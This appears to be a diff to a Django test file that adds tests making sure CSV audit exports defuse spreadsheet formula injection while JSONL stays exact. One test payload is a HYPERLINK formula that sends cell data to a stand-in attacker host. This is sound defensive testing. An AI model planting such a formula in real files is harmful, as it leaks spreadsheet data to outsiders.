@@ -9,7 +9,7 @@ import pytest
 from django.db import connection
 
 from audit.api.serializers import event_document
-from audit.exports import CSV_COLUMNS, export_rows
+from audit.exports import CSV_COLUMNS, csv_cell, export_rows
 from audit.models import AuditEvent
 from audit.tests.factories import events_create
 
@@ -83,6 +83,39 @@ def test_it_streams_csv_with_a_stable_header_and_json_metadata(reader, tenant, r
     assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", row["received_at"])
     assert row["actor_id"] == event.actor_id and row["target_type"] == "invoice"
     assert row["sequence"] == str(event.sequence) and row["hash"] == event.hash
+
+
+@pytest.mark.django_db
+def test_it_defuses_formulas_in_csv_but_keeps_jsonl_exact(reader, tenant, recorded):
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    [event] = events_create(
+        tenant_id=tenant.pk, count=1, description=payload, user_agent="@SUM(1+1)"
+    )
+    rows = list(csv.reader(io.StringIO(_body(reader.get(EXPORT, {"format": "csv"})))))
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["description"] == "'" + payload
+    assert row["user_agent"] == "'@SUM(1+1)"
+    assert row["action"] == event.action  # ordinary text untouched
+    [line] = _body(reader.get(EXPORT, {"format": "jsonl"})).splitlines()
+    assert json.loads(line)["description"] == payload
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (42, 42),
+    ],
+)
+def test_csv_cell_prefixes_only_formula_triggers(value, cell):
+    assert csv_cell(value) == cell
 
 
 @pytest.mark.django_db
